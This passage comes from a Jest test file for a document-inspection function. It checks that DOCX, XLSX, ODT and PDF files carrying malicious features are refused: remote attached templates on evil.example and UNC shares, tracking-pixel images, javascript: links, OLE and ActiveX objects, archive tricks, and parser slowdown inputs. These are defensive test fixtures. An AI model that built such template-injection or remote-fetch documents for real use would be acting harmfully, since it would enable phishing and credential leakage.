  ['a DOCX packed by an unusual method', sampleDocx([{ name: 'word/a.xml', claim: { method: 14 } }]), 'unsafeArchive'],
  ['a DOCX with bytes between its entries', sampleDocx([], { between: Buffer.alloc(100) }), 'unsafeArchive'],
  ['a DOCX with a comment', sampleDocx([], { comment: '<script>alert(1)</script>' }), 'unsafeArchive'],
  ['a DOCX with HTML behind it', sampleDocx([], { after: html }), 'unsafeArchive'],
  ['a DOCX behind another archive', joined(jar, sampleDocx()), 'unsafeArchive'],
  ['half a DOCX', sampleDocx().subarray(0, 200), 'unsafeArchive'],
  ['a DOCX whose template is elsewhere', withRelation('attachedTemplate', 'http://evil.example/t.dotm', 'External'), 'embeddedContent'],
  ['a DOCX whose template is on a share', withRelation('attachedTemplate', '\\\\evil\\a.dotm', 'External'), 'embeddedContent'],
  ['a DOCX whose template is on a server', withRelation('attachedTemplate', 'file://evil/a.dotm', 'External'), 'embeddedContent'],
  ['a DOCX whose template is on a share of a file', withRelation('attachedTemplate', 'file:///\\\\evil\\a', 'External'), 'embeddedContent'],
  ['a DOCX whose template hides its share', withRelation('attachedTemplate', 'file:///%5C%5Cevil/a.dotm', 'External'), 'embeddedContent'],
  ['a DOCX that calls itself one with macros', declared('document.macroEnabled', 'word/main.xml', 'ms-word'), 'macros'],
  ['a DOCX whose types cannot be read', sampleZip([{ name: '[Content_Types].xml', data: '<Types>' }]), 'malformed'],
  ['an archive that is declared to be two things', sampleDocx([{ name: 'xl/workbook.xml', data: '<a/>' }]), 'unknownFormat'],
  ['a DOCX with a picture from elsewhere', withRelation('image', 'https://evil.example/pixel.png', 'External'), 'embeddedContent'],
  ['a DOCX with a picture from a share', withRelation('image', '\\\\evil.example\\share\\pixel.png'), 'embeddedContent'],
  ['a DOCX with a link that runs', withRelation('hyperlink', 'javascript:alert(1)', 'External'), 'embeddedContent'],
  ['a DOCX with a relation to an OLE object', withRelation('oleObject', 'objects/one.bin'), 'embeddedContent'],
  ['a DOCX with an OLE object', sampleDocx([{ name: 'word/embeddings/oleObject1.bin' }]), 'embeddedContent'],
  ['a DOCX with an ActiveX control', sampleDocx([{ name: 'word/activeX/activeX1.xml' }]), 'embeddedContent'],
  ['an XLSX that fetches its data', sampleXlsx([{ name: 'xl/connections.xml' }]), 'embeddedContent'],
  ['an XLSX that calls another program', sampleXlsx([{ name: 'xl/externalLinks/externalLink1.xml' }]), 'embeddedContent'],
  [
    'a DOCX whose relations are in UTF-16',
    sampleDocx([{ name: 'word/_rels/document.xml.rels', data: sampleUtf16('<Relationships/>', 'le') }]),
    'malformed',
  ],
  [
    'a DOCX whose relations name a document type',
    sampleDocx([{ name: 'word/_rels/document.xml.rels', data: '<!DOCTYPE a []><a/>' }]),
    'malformed',
  ],
  ['a DOCX of 200 MB that says so', sampleDocx([{ name: 'word/a.xml', data: blank200 }]), 'unsafeArchive'],
  [
    'a DOCX of 200 MB that claims a tenth',
    sampleDocx([{ name: 'word/a.xml', data: blank200, claim: { uncompressed: 2e7 } }]),
    'unsafeArchive',
  ],
  ['an ODT with an OLE object', sampleOdt([{ name: 'styles.xml', data: '<s xmlns:draw="d"><draw:object-ole/></s>' }]), 'embeddedContent'],
  ['an ODT with a picture from elsewhere', odtWith('<draw:image xlink:href="https://evil.example/pixel.png"/>'), 'embeddedContent'],
  ['an ODT whose template is elsewhere', odtWith('<meta:template xlink:href="http://evil.example/t.ott"/>'), 'embeddedContent'],
  ['an ODT with a script', odtWith('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), 'embeddedContent'],
  ['the beginning of an archive and nothing more', Buffer.from('PK\x03\x04'), 'unsafeArchive'],
];

describe('What a file is, by its content', () => {
  it.each(good)('takes %s', async (_what, content, type) => {
    expect(await inspectFile(content)).toEqual({ type });
  });

  it.each(bad)('refuses %s', async (_what, content, reason) => {
    expect(await inspectFile(content)).toEqual({ refused: reason });
  });

  // What a search could take hours for, with 2 MB too: a case that hangs ends with the suite's own limit.
  const long = countOf({ quick: 2, full: 14 }) * 1024 * 1024;
  it.each([
    ' ',
    '/S ',
    '/S%a\n',
    '/S % ',
    '/JS 1 1 ',
    '/EF 1 ',
    'obj ',
    'stream\n1 1 ',
    '#41',
    '/S/S',
    'obj<<',
    'obj(',
    'obj[(',
    '1 0 obj',
    '<</Type/ObjStm>>stream\n',
    '1 0 obj 1 % a  %  b   %\n',
    '1 0 obj<<>> % a  %  b   %\n',
  ])('is found quickly in megabytes of %j', async (one) => {
    const verdict = await inspectFile(samplePdf(one.repeat(Math.floor(long / one.length))));
    expect('type' in verdict || 'refused' in verdict).toBe(true);
  });

  it.each(['<<>>', '<</Size 1', '[1 0 R', '1'])('is found behind comments with blanks in them after %j', async (value) => {
    const filler = `${'% filler          %        '.repeat(40)}\n`.repeat(10);
    expect(await inspectFile(pdfWith(`${value} ${filler}`))).toHaveProperty('type', 'application/pdf');
  });

  it.each(['/Encrypt 9 0 R ', '/Encrypt<< ', '9 0 obj(', '9 0 obj<<>>', '/ID[(a)]', '/ID [ '])(
    'is found quickly in megabytes of %j in a file that is encrypted',
    async (one) => {
      const verdict = await inspectFile(joined(encryptedPdf('aes256'), one.repeat(Math.floor(long / one.length))));
      expect('type' in verdict || 'refused' in verdict).toBe(true);
    },
  );

  it.each<[string, string, number]>([
    ['no object', '[', 0],
    ['only ends of objects', 'endobj\n', 0],
    ['a hundred thousand numbers', '1 0 obj 7 endobj\n', 1000],
  ])('is decided early in a PDF of %s', async (_what, filling, mostRead) => {
    const read = jest.spyOn(PdfParser.prototype, 'read');
    expect(await inspectFile(Buffer.concat([Buffer.from('%PDF-1.5\n'), Buffer.alloc(1_700_000, filling)]))).toEqual({
      refused: 'malformed',
    });
    expect(read.mock.calls.length).toBe(mostRead);
    read.mockRestore();
  });

  it('never makes the inspection throw, whatever is cut off or flipped', async () => {
    const whole = good.map(([, content]) => content).filter((content) => content.length < 5000);
    for (const content of whole) {
      for (let cut = 0; cut < content.length; cut += 1 + (content.length >> 5)) await inspectFile(content.subarray(0, cut));
      for (let at = 0; at < content.length; at += 1 + (content.length >> 5)) {
        const verdict = await inspectFile(replaced(content, at, [(content[at] ?? 0) ^ 0xff]));
        expect('type' in verdict || 'refused' in verdict).toBe(true);
      }
    }
  });
});
